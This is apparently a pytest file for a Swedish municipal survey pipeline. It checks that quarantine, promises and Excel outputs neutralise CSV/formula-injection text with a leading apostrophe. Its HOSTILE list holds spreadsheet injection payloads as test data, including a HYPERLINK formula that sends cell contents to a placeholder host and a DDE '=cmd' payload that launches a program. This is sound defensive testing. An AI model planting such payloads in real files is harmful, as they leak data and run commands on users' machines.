"""Formula injection (OWASP "CSV injection"): no file we write runs a cell as a formula.

Hostile free text, answer labels, area names and promise texts flow through
clean → ``quarantine.csv``, estimate → the Excel appendix ``tabeller_<year>.xlsx``
and promises → ``promises.csv``. Afterwards every CSV and XLSX the project
wrote is scanned: no text cell may begin with ``=``, ``+``, ``-``, ``@``, tab or
CR unless neutralised with a leading ``'``; numbers stay numbers (a negative
number is not text and is not prefixed), and our own outputs still read back.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml
from helpers import EXPORT_HEADERS, mini_mapping, row, write_export

from trygghet import cli, free_text, pipeline, report_promises
from trygghet.config import Project
from trygghet.writers import FORMULA_PREFIXES, neutralise, neutralise_frame, write_csv

ROOT = Path(__file__).resolve().parents[1] / "examples" / "trollhattan"  # the example workspace
HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Klicka här")', "+46 70 123 45 67", "-1+1",
           "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
# A CR cannot travel inside a CSV export: the loader reads it as a line end.
IN_CSV = [h for h in HOSTILE if "\r" not in h]
# Area names travel through YAML keys, the population file and the tables.
AREAS = ['=HYPERLINK("http://x.example","Norr")', "+46 Söder", "-1+1 Väster", "@SUM(A1) Öster"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def dangerous_csv_cells(path: Path) -> list[tuple[int, str]]:
    """Cells of a CSV that a spreadsheet would run: dangerous start, no ``'``, not a number."""
    text = path.read_text(encoding="utf-8")
    bad = []
    for i, cells in enumerate(csv.reader(io.StringIO(text, newline=""))):
        bad += [(i + 1, c) for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
    return bad


def dangerous_xlsx_cells(path: Path) -> list[tuple[str, str]]:
    wb = openpyxl.load_workbook(path)  # not data_only: a formula would show as one
    bad = []
    for ws in wb.worksheets:
        for cells in ws.iter_rows():
            for cell in cells:
                if cell.data_type == "f" or (isinstance(cell.value, str) and
                                             cell.value.startswith(FORMULA_PREFIXES)):
                    bad.append((f"{ws.title}!{cell.coordinate}", cell.value))
    return bad


# --- The neutralising writers ------------------------------------------------------------

@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_hostile_text(value):
    assert neutralise(value) == "'" + value
    assert neutralise(neutralise(value)) == "'" + value  # idempotent


@pytest.mark.parametrize("value", [-1, -0.5, 3, np.float64(-2.5), None, pd.NA, "Norr", "",
                                   "'=1", " =1", "1-2", "Ja"])
def test_neutralise_leaves_numbers_and_harmless_text(value):
    assert neutralise(value) is value


def test_neutralise_frame_covers_every_text_dtype():
    frame = pd.DataFrame({
        "object": pd.Series(["=1", "ok", None], dtype=object),
        "string": pd.array(["+1", pd.NA, "ok"], dtype="string"),
        "category": pd.Categorical(["@x", "@x", "ok"]),
        "number": [-1.5, 2.0, np.nan],
        "int": pd.array([-1, 2, None], dtype="Int64"),
        "=header": ["a", "b", "c"],
    })
    out = neutralise_frame(frame)
    assert out["object"].tolist()[:2] == ["'=1", "ok"] and out["object"].isna().iloc[2]
    assert out["string"].iloc[0] == "'+1" and out["string"].isna().iloc[1]
    assert out["category"].tolist() == ["'@x", "'@x", "ok"]
    assert out["number"].iloc[0] == -1.5 and out["int"].iloc[0] == -1
    assert list(out.columns)[-1] == "'=header"
    assert frame["object"].iloc[0] == "=1"  # the caller's frame is not changed


def test_write_csv_round_trip_keeps_numbers(tmp_path):
    frame = pd.DataFrame({"text": HOSTILE, "value": np.linspace(-3, 3, len(HOSTILE))})
    path = write_csv(frame, tmp_path / "t.csv")
    assert dangerous_csv_cells(path) == []
    back = pd.read_csv(path)
    assert back["value"].dtype == float and back["value"].iloc[0] == -3.0
    assert back["text"].tolist() == ["'" + h for h in HOSTILE]


def test_appendix_safety_net_catches_a_cell_the_code_forgot():
    from trygghet.writers import neutralise_workbook

    wb = openpyxl.Workbook()
    wb.active.append(["=1+1", -1.5, "@x", "ok", 3, "-"])
    assert wb.active["A1"].data_type == "f"  # openpyxl would store it as a formula
    neutralise_workbook(wb)
    assert [c.value for c in wb.active[1]] == ["'=1+1", -1.5, "'@x", "ok", 3, "'-"]
    assert wb.active["A1"].data_type == "s"


# --- End to end: clean → quarantine.csv, estimate → tabeller_<år>.xlsx, promises.csv --------

def _export_rows(seed: int, n: int = 260) -> list[list[str]]:
    rng = np.random.default_rng(seed)
    safety = ["Mycket trygg", "Ganska trygg", "Ganska otrygg", "Mycket otrygg"]
    worry = ["Mycket ofta", "Ganska ofta", "Ganska sällan", "Aldrig"]
    start = pd.Timestamp("2020-10-01 08:00")
    rows = []
    for i in range(n):
        rows.append(row(
            respondent_id=f"id{i}", submitted=str(start + pd.Timedelta(hours=i)),
            sex=rng.choice(["Kvinna", "Man"]), age=str(rng.integers(16, 85)),
            area=AREAS[i % len(AREAS)], safe_evening=rng.choice(safety),
            worry=rng.choice(worry), priorities="Trafik", comment=IN_CSV[i % len(IN_CSV)]))
    # Hostile answers where labels and areas go: unknown, so quarantined with their value.
    for j, h in enumerate(IN_CSV):
        rows.append(row(respondent_id=f"q{j}", area=AREAS[0], safe_evening=h))
        rows.append(row(respondent_id=f"a{j}", area=h))
    return rows


def _population(path: Path) -> None:
    from trygghet.schema import AGE_GROUP

    lines = [["dimension", "level", "population"]]
    lines += [["sex", s, 5000] for s in ("Kvinna", "Man")]
    lines += [["age_group", a, 2000] for a in AGE_GROUP.levels]
    lines += [["sex:age_group", f"{s}:{a}", 1000] for s in ("Kvinna", "Man")
              for a in AGE_GROUP.levels]
    lines += [["area", a, 10000 // len(AREAS)] for a in AREAS]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(lines)  # an input: written as is
    path.write_text(buf.getvalue(), encoding="utf-8")


def _hostile_promise(reference: Path) -> None:
    path = reference / "medborgarlofte_2020.yml"
    promise = yaml.safe_load(path.read_text(encoding="utf-8"))
    first = promise["inriktningar"][0]
    first["text"] = HOSTILE[0]
    first["scope"] = HOSTILE[2]
    first["responsible"] = HOSTILE[3]
    first["evaluation"] = HOSTILE[1]
    first["follow_up"] = HOSTILE[6]
    path.write_text(yaml.safe_dump(promise, allow_unicode=True, sort_keys=False),
                    encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory) -> Path:
    """Two random-sample years with hostile areas and answers, cleaned, estimated, followed up."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "config" / "surveys").mkdir(parents=True)
    (root / "config" / "trygghet.yml").write_text("municipality: '=Kommunen'\n",
                                                  encoding="utf-8")
    shutil.copytree(ROOT / "data" / "reference", root / "data" / "reference")
    for year, seed in ((2019, 1), (2020, 2)):
        m = mini_mapping(source=f"data/raw/{year}/export.csv", year=year,
                         areas={a: {} for a in AREAS},
                         design={"sampling": "probability", "sent": 1000})  # ≥ respondents
        (root / "config" / "surveys" / f"{year}.yml").write_text(
            yaml.safe_dump(m, allow_unicode=True), encoding="utf-8")
        (root / "data" / "raw" / str(year)).mkdir(parents=True)
        write_export(root / "data" / "raw" / str(year) / "export.csv", _export_rows(seed))
        _population(root / "data" / "reference" / f"population_{year}.csv")
    _hostile_promise(root / "data" / "reference")
    with pytest.MonkeyPatch.context() as mp:  # module scope: conftest's key is not set yet
        mp.setenv("TRYGGHET_PSEUDONYM_KEY", "test-key-" + "0" * 32)
        for args in (["clean", "--year", "2019"], ["clean", "--year", "2020"],
                     ["estimate", "--year", "2020"], ["promises", "--year", "2020"]):
            assert cli.main(["--root", str(root), *args]) == 0, args
    return root


def test_quarantine_csv_holds_raw_hostile_values_neutralised(hostile_project):
    path = hostile_project / "data" / "processed" / "2020" / "quarantine.csv"
    assert dangerous_csv_cells(path) == []
    q = pd.read_csv(path, dtype=str, keep_default_na=False)
    # "\r" never arrives from a file: the loader reads a CR as a line end (next test).
    assert set(q["value"]) == {"'" + h for h in IN_CSV}
    assert set(q["reason"]) == {"okant_svarsalternativ", "okant_omrade"}


def test_carriage_returns_in_values_are_quoted_and_neutralised(project, monkeypatch):
    # A bare CR ends a spreadsheet row: unquoted, "x\r=1" would put "=1" in a new row.
    from trygghet import load

    values = [*HOSTILE, "Ibland\r=HYPERLINK(\"http://x.example\")", "ok\r\n-1+1"]
    # An hour apart: an unknown answer costs only that answer, and rows whose answers are
    # otherwise identical would be double submissions within the same minutes.
    frame = pd.DataFrame([row(respondent_id=f"x{j}", worry=v,
                              submitted=f"2020-10-01 {j % 24:02d}:00")
                          for j, v in enumerate(values)], dtype=str)
    frame.columns = range(len(EXPORT_HEADERS))
    raw = load.RawExport(project / "export.csv", list(EXPORT_HEADERS), frame,
                         np.arange(len(values)) + 2, {"format": "csv", "header_row": 1})
    monkeypatch.setattr(pipeline.load, "read_export", lambda *a, **k: raw)
    assert cli.main(["--root", str(project), "clean", "--year", "2020"]) == 0
    path = project / "data" / "processed" / "2020" / "quarantine.csv"
    assert dangerous_csv_cells(path) == []
    with path.open(encoding="utf-8", newline="") as fh:
        got = [r["value"] for r in csv.DictReader(fh)]
    assert got == [neutralise(v) for v in values]  # one row each: nothing split off


def test_excel_appendix_has_no_formula_and_numbers_stay_numbers(hostile_project):
    path = hostile_project / "reports" / "2020" / "tabeller_2020.xlsx"
    assert dangerous_xlsx_cells(path) == []
    wb = openpyxl.load_workbook(path)
    texts = {c.value for ws in wb.worksheets for r in ws.iter_rows() for c in r
             if isinstance(c.value, str)}
    for area in AREAS:
        assert "'" + area in texts, area  # the hostile area is there, neutralised
    assert any(t.startswith("'=Kommunen") or "=Kommunen" in t for t in texts)
    numbers = [c.value for ws in wb.worksheets for r in ws.iter_rows() for c in r
               if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    assert any(v < 0 for v in numbers), "a change below zero is a negative number, not text"
    ws = wb["Förändringar"]
    diffs = [ws.cell(r, 9).value for r in range(4, ws.max_row + 1)]
    assert all(isinstance(d, int | float) or d in ("..", ".", "–", None) or
               (isinstance(d, str) and d.startswith(("Teckenförklaring", "Skillnader")))
               for d in diffs), set(map(str, diffs))


def test_promises_csv_is_neutralised_and_reads_back(hostile_project):
    path = hostile_project / "data" / "processed" / "2020" / "promises.csv"
    assert dangerous_csv_cells(path) == []
    table = report_promises.load_follow_up(2020, project=Project(hostile_project))
    first = table[table["inriktning"] == 1].iloc[0]
    # The file is guarded; the report (HTML, no formulas) shows the text as written.
    assert first["text"] == HOSTILE[0]
    assert (first["scope"], first["responsible"]) == (HOSTILE[2], HOSTILE[3])
    # Numbers are numbers again when read back: nothing numeric was prefixed.
    for col in ("value_from", "value_to", "change", "change_pct"):
        assert pd.api.types.is_numeric_dtype(table[col]), col
    assert first["value_from"] == 412 and first["value_to"] == 455


def test_every_csv_and_xlsx_written_is_safe(hostile_project):
    written = [p for p in hostile_project.rglob("*")
               if p.suffix in (".csv", ".xlsx") and "reference" not in p.parts
               and "raw" not in p.parts]
    assert {p.name for p in written} >= {"quarantine.csv", "duplicates.csv", "promises.csv",
                                         "tabeller_2020.xlsx", "tabeller_2019.xlsx"}
    for path in written:
        bad = dangerous_csv_cells(path) if path.suffix == ".csv" else \
            dangerous_xlsx_cells(path)
        assert bad == [], path


def test_estimates_and_comments_are_unchanged_in_parquet(hostile_project):
    # Neutralising is for spreadsheets only: the data keep the text as given.
    project = Project(hostile_project)
    responses = pipeline.load_responses(project, 2020)
    assert set(responses["area"].dropna()) == set(AREAS)
    assert "=cmd|' /C calc'!A0" in set(free_text.load_answers(project.processed(2020)))


@pytest.mark.parametrize("text", ["-- bra jobbat", "=1+1", "+46 70", "@polisen", "\t=1", "vanlig"])
def test_restore_undoes_neutralise(text):
    from trygghet.writers import neutralise, restore

    assert restore(neutralise(text)) == text
